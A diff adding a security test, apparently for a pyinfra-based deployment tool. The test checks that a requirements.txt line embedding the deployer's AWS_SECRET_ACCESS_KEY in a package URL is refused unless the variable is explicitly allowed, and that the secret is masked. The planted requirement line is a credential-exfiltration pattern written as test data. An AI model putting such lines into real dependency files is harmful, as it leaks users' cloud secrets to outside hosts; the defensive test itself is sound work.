@@ -1459,6 +1459,30 @@ def test_a_token_in_requirements_is_shown_to_nobody(attacked: Host, operator: Co
 
 @pytest.mark.threat(
     "repository",
+    "a variable of whoever deploys, such as a key of theirs, that the requirements put into a URL",
+    "requirements get a variable of the deploying machine only if `build_env` names it; for any "
+    "other, the plan is refused",
+)
+def test_requirements_get_no_variable_that_no_setting_names(
+    attacked: Host, operator: Controller, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", PASSWORD)
+    requirements = operator.project() / "requirements.txt"
+    requirements.write_text(f"Django\ntiny @ {NOBODY_LISTENS}?token=${{AWS_SECRET_ACCESS_KEY}}\n")
+    with still_served(attacked):
+        run = operator.pyinfra("deploy.py", "-y", check=False)
+        assert run.returncode == 1
+        assert "requirements.txt:2 asks for ${AWS_SECRET_ACCESS_KEY}" in run.output
+        assert PASSWORD not in run.output + run.stdout
+        operator.data["build_env"] = ["AWS_SECRET_ACCESS_KEY"]
+        run = operator.pyinfra("deploy.py", "-y", check=False)
+    # So pip had it.
+    assert "?token=*MASKED*" in run.output + run.stdout
+    assert PASSWORD not in run.output + run.stdout
+
+
+@pytest.mark.threat(
+    "repository",
     "commands in its own .git/config, for files that the clone lacks, and filters for the others",
     "reading fetches nothing, and an archive is made without anybody's configuration",
 )
